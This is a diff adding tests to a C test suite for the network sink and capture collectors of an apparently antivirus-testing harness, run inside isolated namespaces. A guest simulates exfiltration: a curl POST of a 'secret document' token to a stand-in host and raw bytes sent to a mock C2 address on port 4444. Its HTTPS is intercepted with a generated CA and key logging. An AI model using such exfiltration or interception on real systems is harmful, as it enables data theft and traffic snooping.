@@ -2,10 +2,12 @@
 /*
  * The capture and sink collectors end to end, without a VM: two network
  * namespaces this test creates (a "host" one with a bridge, and a "guest"
- * one on a veth into it), the collectors started in the host one, a client
- * in the guest one doing DNS (UDP and TCP) and an HTTP POST carrying a
- * token. Needs root; exits 77 (skipped) otherwise. Nothing is sent outside
- * the two namespaces, and both are deleted at the end.
+ * one on a veth into it), the run's nftables rules and the collectors started
+ * in the host one, a client in the guest one doing DNS (UDP and TCP), HTTP,
+ * HTTPS (intercepted), a pinning client, raw TCP and UDP to outside
+ * addresses, ICMP and IPv6. Needs root; exits 77 (skipped) otherwise.
+ * Nothing is sent outside the two namespaces, and both are deleted at the
+ * end.
  */
 #include <arpa/inet.h>
 #include <check.h>
@@ -26,7 +28,9 @@
 
 #include "collectors/analyze.h"
 #include "collectors/collector.h"
+#include "collectors/tls-mitm.h"
 #include "common/util.h"
+#include "orchestrator/netfilter.h"
 
 #define SINK_IP  "10.213.99.1"
 #define GUEST_IP "10.213.99.2"
@@ -34,8 +38,18 @@
 #define TOKEN    "AVTBQ3F7K2M9XWZP4R8TAB"
 #define BODY_LEN 200000
 
+#define NFT_TAG "test"
+
 static char ns_host[64], ns_guest[64];
 static char evdir[64];
+static avtb_mitm *mitm;
+
+static const avtb_nft_spec nft_spec = {.tag = NFT_TAG,
+                                       .bridge = BRIDGE,
+                                       .sink_ip = SINK_IP,
+                                       .dns_port = AVTB_SINK_DNS_PORT,
+                                       .tcp_port = AVTB_SINK_CATCHALL_PORT,
+                                       .udp_port = AVTB_SINK_CATCHALL_PORT};
 
 static int ip_cmd(const char *const argv[])
 {
@@ -75,7 +89,8 @@ static int netns_create(void)
         IP("-n", ns_host, "link", "set", BRIDGE, "up") ||
         IP("-n", ns_host, "link", "set", "avtbt0", "up") ||
         IP("-n", ns_guest, "addr", "add", GUEST_IP "/24", "dev", "avtbg0") ||
-        IP("-n", ns_guest, "link", "set", "avtbg0", "up"))
+        IP("-n", ns_guest, "link", "set", "avtbg0", "up") ||
+        IP("-n", ns_guest, "route", "add", "default", "via", SINK_IP))
         return -1;
     return 0;
 }
@@ -111,15 +126,29 @@ static avtb_collector_env env_for(const char *bridge, const char *ip)
                               .guest_ip = GUEST_IP,
                               .run_id = "test",
                               .scenario = "collectors",
-                              .product = "none"};
+                              .product = "none",
+                              .mitm = mitm};
 
     return env;
 }
 
 static void setup(void)
 {
+    avtb_error err = {0};
+    char *keylog;
+
     snprintf(evdir, sizeof(evdir), "/tmp/avtb-test-collectors-XXXXXX");
     ck_assert_ptr_nonnull(mkdtemp(evdir));
+    keylog = avtb_path_join(evdir, "tls-keys.log");
+    {
+        avtb_mitm_config c = {.run_id = "test", .keylog_path = keylog};
+        char *ca = avtb_path_join(evdir, "tls-ca.pem");
+
+        ck_assert_msg(avtb_mitm_new(&c, &mitm, &err) == AVTB_OK, "%s", err.msg);
+        ck_assert_int_eq(avtb_mitm_write_ca(mitm, ca, &err), AVTB_OK);
+        free(ca);
+    }
+    free(keylog);
 }
 
 /* AVTB_TEST_KEEP=1 keeps the evidence directories for a look. */
@@ -127,6 +156,8 @@ static void teardown(void)
 {
     avtb_error err = {0};
 
+    avtb_mitm_free(mitm);
+    mitm = NULL;
     if (getenv("AVTB_TEST_KEEP") != NULL) {
         fprintf(stderr, "evidence kept in %s\n", evdir);
         return;
@@ -558,6 +589,339 @@ START_TEST(crashed_capture_is_incomplete)
 }
 END_TEST
 
+/* --- Every destination, redirected: TLS, pinning, raw TCP, UDP, ICMP, IPv6 - */
+
+/* Runs argv inside the guest namespace; its exit status. */
+static int guest_spawn(const char *const *argv)
+{
+    const char *full[24] = {"ip", "netns", "exec", ns_guest};
+    avtb_error err = {0};
+    int status = -1;
+    size_t n = 4;
+
+    for (size_t i = 0; argv[i] != NULL && n < 23; i++)
+        full[n++] = argv[i];
+    full[n] = NULL;
+    if (avtb_spawn(full, 20000, NULL, &status, &err) != AVTB_OK)
+        return -1;
+    return status;
+}
+
+#define GUEST(...) guest_spawn((const char *const[]){__VA_ARGS__, NULL})
+
+static int connect_to(int family, const char *ip, uint16_t port, int type)
+{
+    struct timeval tv = {3, 0};
+    struct sockaddr_storage ss = {0};
+    socklen_t sl;
+    int fd = socket(family, type, 0);
+
+    if (fd < 0)
+        return -1;
+    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
+    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
+    if (family == AF_INET) {
+        struct sockaddr_in *in = (struct sockaddr_in *)&ss;
+
+        in->sin_family = AF_INET;
+        in->sin_port = htons(port);
+        inet_pton(AF_INET, ip, &in->sin_addr);
+        sl = sizeof(*in);
+    } else {
+        struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)&ss;
+
+        in6->sin6_family = AF_INET6;
+        in6->sin6_port = htons(port);
+        inet_pton(AF_INET6, ip, &in6->sin6_addr);
+        sl = sizeof(*in6);
+    }
+    if (connect(fd, (struct sockaddr *)&ss, sl) != 0) {
+        close(fd);
+        return -1;
+    }
+    return fd;
+}
+
+/* The guest's direct attempts, in its namespace; 0 if each behaved as the sink makes it. */
+static int guest_direct(void)
+{
+    static const char raw[] = "HELLO " TOKEN " raw bytes to a C2 server\n";
+    char resp[1024];
+    uint8_t q[512], r[512];
+    int fd;
+    size_t n, got = 0;
+    ssize_t k;
+
+    /* Raw TCP to a public address: accepted, recorded, nothing answered. */
+    fd = connect_to(AF_INET, "203.0.113.9", 4444, SOCK_STREAM);
+    if (fd < 0 || send(fd, raw, sizeof(raw) - 1, 0) != (ssize_t)sizeof(raw) - 1)
+        return 21;
+    close(fd);
+    /* HTTP on an odd port of a private address: the sink's HTTP answers. */
+    fd = connect_to(AF_INET, "192.168.1.1", 8080, SOCK_STREAM);
+    if (fd < 0)
+        return 22;
+    n = (size_t)snprintf(resp, sizeof(resp),
+                         "GET /c2 HTTP/1.1\r\nHost: 192.168.1.1:8080\r\nConnection: close\r\n\r\n");
+    if (send(fd, resp, n, 0) != (ssize_t)n)
+        return 22;
+    while (got < sizeof(resp) - 1 && (k = recv(fd, resp + got, sizeof(resp) - 1 - got, 0)) > 0)
+        got += (size_t)k;
+    resp[got] = '\0';
+    close(fd);
+    if (strncmp(resp, "HTTP/1.1 200", 12) != 0)
+        return 23;
+    /* UDP to a public NTP server: recorded with its destination. */
+    fd = connect_to(AF_INET, "9.9.9.9", 123, SOCK_DGRAM);
+    if (fd < 0 || send(fd, raw, sizeof(raw) - 1, 0) != (ssize_t)sizeof(raw) - 1)
+        return 24;
+    close(fd);
+    /* Its own resolver: the sink answers instead. */
+    fd = connect_to(AF_INET, "8.8.8.8", 53, SOCK_DGRAM);
+    n = dns_query(q, 0x7777, "own-resolver.example", 1);
+    if (fd < 0 || send(fd, q, n, 0) != (ssize_t)n || (k = recv(fd, r, sizeof(r), 0)) < 0 ||
+        dns_check(r, k, 0x7777, 1) != 0)
+        return 25;
+    close(fd);
+    /* IPv6 to a public address: dropped at the bridge, so the connect fails. */
+    fd = connect_to(AF_INET6, "2606:4700:4700::1111", 443, SOCK_STREAM);
+    if (fd >= 0)
+        return 26;
+    return 0;
+}
+
+static json_t *jsonl_find(const char *name, const char *key, const char *value)
+{
+    char *path = avtb_path_join(evdir, name), line[8192];
+    json_t *found = NULL;
+    FILE *fp = fopen(path, "r");
+
+    ck_assert_msg(fp != NULL, "no %s", name);
+    while (found == NULL && fgets(line, sizeof(line), fp) != NULL) {
+        json_t *o = json_loads(line, 0, NULL);
+        const char *v = json_string_value(json_object_get(o, key));
+
+        if (v != NULL && strcmp(v, value) == 0)
+            found = o;
+        else
+            json_decref(o);
+    }
+    fclose(fp);
+    free(path);
+    ck_assert_msg(found != NULL, "%s has no line with %s=%s", name, key, value);
+    return found;
+}
+
+static long long jint(json_t *o, const char *key)
+{
+    return json_integer_value(json_object_get(o, key));
+}
+
+START_TEST(sink_catches_every_destination)
+{
+    avtb_collector_env env = env_for(BRIDGE, SINK_IP);
+    const avtb_collector_ops *snk = collector("sink");
+    void *state = NULL;
+    avtb_error err = {0};
+    char *ca = avtb_path_join(evdir, "tls-ca.pem"), *body = avtb_path_join(evdir, "body.txt");
+    char *keys = avtb_path_join(evdir, "tls-keys.log"), *nft = avtb_path_join(evdir, "nft.json");
+    static const char upload[] = "secret document " TOKEN " end\n";
+    struct stat st;
+    char at[128];
+    pid_t pid;
+    int status;
+    json_t *o, *tables;
+
+    snprintf(at, sizeof(at), "@%s", body);
+    ck_assert_int_eq(avtb_write_file(body, upload, sizeof(upload) - 1, 0644, &err), AVTB_OK);
+    ck_assert_msg(snk->start(&env, &state, &err) == AVTB_OK, "sink: %s", err.msg);
+    /* HTTPS by name to a public address, trusting the run's CA: intercepted. */
+    ck_assert_int_eq(GUEST("curl", "-sS", "--max-time", "10", "--cacert", ca, "--resolve",
+                           "upload.tls.example:443:1.2.3.4", "--data-binary", at, "-o", "/dev/null",
+                           "-w", "%{http_code}", "https://upload.tls.example/v2/submit"),
+                     0);
+    /* A client that pins its vendor's key: the handshake, and nothing else. */
+    ck_assert_int_ne(GUEST("curl", "-sS", "--max-time", "10", "--cacert", ca, "--resolve",
+                           "telemetry.pin.example:443:5.6.7.8", "--pinnedpubkey",
+                           "sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=", "--data-binary",
+                           at, "https://telemetry.pin.example/up"),
+                     0);
+    /* ICMP to a public address: answered by the bridge address. */
+    ck_assert_int_eq(GUEST("busybox", "ping", "-c", "1", "-W", "3", "1.1.1.1"), 0);
+    pid = fork();
+    ck_assert_int_ge(pid, 0);
+    if (pid == 0) {
+        alarm(30);
+        _exit(enter_netns(ns_guest) != 0 ? 10 : guest_direct());
+    }
+    ck_assert_int_eq(waitpid(pid, &status, 0), pid);
+    ck_assert_msg(WIFEXITED(status) && WEXITSTATUS(status) == 0, "guest exit %d", status);
+    ck_assert_msg(snk->stop(state, &err), "sink stop: %s", err.msg);
+
+    o = jsonl_find("sink-tls.jsonl", "sni", "upload.tls.example");
+    ck_assert(json_is_true(json_object_get(o, "ok")));
+    ck_assert_str_eq(jstr(o, "orig_dst"), "1.2.3.4");
+    ck_assert_int_eq(jint(o, "orig_dst_port"), 443);
+    ck_assert_int_ge(jint(o, "plaintext_from_client"), (long long)sizeof(upload) - 1);
+    json_decref(o);
+    o = jsonl_find("sink-http.jsonl", "sni", "upload.tls.example");
+    ck_assert(json_is_true(json_object_get(o, "tls")));
+    ck_assert_str_eq(jstr(o, "client"), GUEST_IP);
+    ck_assert_str_eq(jstr(o, "orig_dst"), "1.2.3.4");
+    ck_assert_int_eq(jint(o, "body_bytes"), (long long)sizeof(upload) - 1);
+    json_decref(o);
+    /* curl checks the pin after the handshake and hangs up without a byte of data. */
+    o = jsonl_find("sink-tls.jsonl", "sni", "telemetry.pin.example");
+    ck_assert_str_eq(jstr(o, "orig_dst"), "5.6.7.8");
+    ck_assert_int_eq(jint(o, "plaintext_from_client"), 0);
+    json_decref(o);
+    ck_assert_int_eq(stat(keys, &st), 0);
+    ck_assert_int_gt(st.st_size, 100);
+
+    o = jsonl_find("sink-tcp.jsonl", "orig_dst", "203.0.113.9");
+    ck_assert_str_eq(jstr(o, "protocol"), "raw");
+    ck_assert_int_eq(jint(o, "orig_dst_port"), 4444);
+    ck_assert_int_gt(jint(o, "bytes_from_client"), 20);
+    json_decref(o);
+    o = jsonl_find("sink-http.jsonl", "orig_dst", "192.168.1.1");
+    ck_assert_int_eq(jint(o, "orig_dst_port"), 8080);
+    ck_assert(json_is_false(json_object_get(o, "tls")));
+    json_decref(o);
+    o = jsonl_find("sink-udp.jsonl", "orig_dst", "9.9.9.9");
+    ck_assert_int_eq(jint(o, "orig_dst_port"), 123);
+    json_decref(o);
+    o = jsonl_find("sink-dns.jsonl", "qname", "own-resolver.example");
+    ck_assert_str_eq(jstr(o, "answer"), SINK_IP);
+    ck_assert_str_eq(jstr(o, "orig_dst"), "8.8.8.8");
+    json_decref(o);
+
+    /* The rules' counters: IPv6 dropped, nothing forwarded. Then back for the next test. */
+    ck_assert_msg(avtb_nft_remove(NFT_TAG, nft, &err) == AVTB_OK, "%s", err.msg);
+    ck_assert_msg(avtb_nft_install(&nft_spec, &err) == AVTB_OK, "%s", err.msg);
+    tables = json_load_file(nft, 0, NULL);
+    ck_assert_ptr_nonnull(tables);
+    {
+        char *text = json_dumps(tables, JSON_COMPACT);
+
+        ck_assert_ptr_nonnull(strstr(text, "\"comment\":\"guest IPv6\""));
+        free(text);
+    }
+    json_decref(tables);
+    free(ca);
+    free(body);
+    free(keys);
+    free(nft);
+}
+END_TEST
+
+/* --- Record and replay --------------------------------------------------- */
+
+#define UPSTREAM_PORT 18089
+
+/* A stand-in for the vendor's real cloud, on loopback of the host namespace:
+ * answers up to n requests with "upload", then exits. */
+static pid_t upstream_start(int n)
+{
+    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(UPSTREAM_PORT)};
+    int one = 1, lfd = socket(AF_INET, SOCK_STREAM, 0);
+    pid_t pid;
+
+    sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    ck_assert_int_ge(lfd, 0);
+    setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
+    ck_assert_int_eq(bind(lfd, (struct sockaddr *)&sa, sizeof(sa)), 0);
+    ck_assert_int_eq(listen(lfd, 8), 0);
+    pid = fork();
+    ck_assert_int_ge(pid, 0);
+    if (pid == 0) {
+        static const char reply[] = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
+                                    "X-Upstream: yes\r\nContent-Length: 7\r\n"
+                                    "Connection: close\r\n\r\nupload\n";
+
+        alarm(20);
+        for (int i = 0; i < n; i++) {
+            char req[4096];
+            int fd = accept(lfd, NULL, NULL);
+
+            if (fd < 0)
+                _exit(1);
+            if (recv(fd, req, sizeof(req), 0) <= 0 ||
+                send(fd, reply, sizeof(reply) - 1, 0) != (ssize_t)sizeof(reply) - 1)
+                _exit(2);
+            close(fd);
+        }
+        _exit(0);
+    }
+    close(lfd);
+    return pid;
+}
+
+static int guest_asks(const char *query)
+{
+    pid_t pid = fork();
+    int status;
+
+    ck_assert_int_ge(pid, 0);
+    if (pid == 0) {
+        char resp[2048], path[128];
+
+        alarm(20);
+        snprintf(path, sizeof(path), "/api/v1/lookup?sha256=%s", query);
+        if (enter_netns(ns_guest) != 0)
+            _exit(10);
+        if (guest_get("cloud.rec.example", path, resp, sizeof(resp)) != 0)
+            _exit(11);
+        if (strncmp(resp, "HTTP/1.1 200", 12) != 0 || strstr(resp, "X-Upstream: yes") == NULL ||
+            strstr(resp, "\r\n\r\nupload\n") == NULL)
+            _exit(12);
+        _exit(0);
+    }
+    ck_assert_int_eq(waitpid(pid, &status, 0), pid);
+    return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
+}
+
+START_TEST(record_then_replay_offline)
+{
+    avtb_collector_env env = env_for(BRIDGE, SINK_IP);
+    const avtb_collector_ops *snk = collector("sink");
+    avtb_connect_to to;
+    avtb_cloud_recording *rec = NULL;
+    void *state = NULL;
+    avtb_error err = {0};
+    pid_t up;
+    int status;
+    json_t *o;
+
+    ck_assert_int_eq(avtb_connect_to_parse(":80:127.0.0.1:18089", &to, &err), AVTB_OK);
+    up = upstream_start(1);
+    env.cloud_mode = AVTB_CLOUD_RECORD;
+    env.connect_to = &to;
+    env.nconnect_to = 1;
+    ck_assert_msg(snk->start(&env, &state, &err) == AVTB_OK, "sink: %s", err.msg);
+    ck_assert_int_eq(guest_asks("aa"), 0);
+    ck_assert_msg(snk->stop(state, &err), "sink stop: %s", err.msg);
+    ck_assert_int_eq(waitpid(up, &status, 0), up);
+    ck_assert_msg(WIFEXITED(status) && WEXITSTATUS(status) == 0, "upstream exit %d", status);
+    o = jsonl_find("cloud-recording.jsonl", "host", "cloud.rec.example");
+    ck_assert_int_eq(jint(o, "status"), 200);
+    ck_assert_str_eq(jstr(o, "uri"), "/api/v1/lookup?sha256=aa");
+    json_decref(o);
+
+    /* The upstream is gone: the replay answers by itself, for another query. */
+    ck_assert_msg(avtb_cloud_load(evdir, &rec, &err) == AVTB_OK, "%s", err.msg);
+    env = env_for(BRIDGE, SINK_IP);
+    env.cloud_mode = AVTB_CLOUD_REPLAY;
+    env.replay = rec;
+    ck_assert_msg(snk->start(&env, &state, &err) == AVTB_OK, "sink: %s", err.msg);
+    ck_assert_int_eq(guest_asks("zz"), 0);
+    ck_assert_msg(snk->stop(state, &err), "sink stop: %s", err.msg);
+    o = jsonl_find("sink-http.jsonl", "uri", "/api/v1/lookup?sha256=zz");
+    ck_assert_int_eq(jint(o, "replayed"), 0);
+    json_decref(o);
+    avtb_cloud_free(rec);
+}
+END_TEST
+
 int main(void)
 {
     Suite *s = suite_create("sink_capture");
@@ -574,12 +938,23 @@ int main(void)
         netns_delete();
         return 1;
     }
+    {
+        avtb_error err = {0};
+
+        if (avtb_nft_install(&nft_spec, &err) != AVTB_OK) {
+            fprintf(stderr, "test_sink_capture: %s\n", err.msg);
+            netns_delete();
+            return 1;
+        }
+    }
     tcase_add_checked_fixture(tc, setup, teardown);
     tcase_set_timeout(tc, 60);
     tcase_add_test(tc, sink_and_capture_record_an_upload);
     tcase_add_test(tc, sink_serves_scenario_answers);
     tcase_add_test(tc, start_errors_are_reported);
     tcase_add_test(tc, crashed_capture_is_incomplete);
+    tcase_add_test(tc, sink_catches_every_destination);
+    tcase_add_test(tc, record_then_replay_offline);
     suite_add_tcase(s, tc);
     sr = srunner_create(s);
     srunner_run_all(sr, CK_NORMAL);
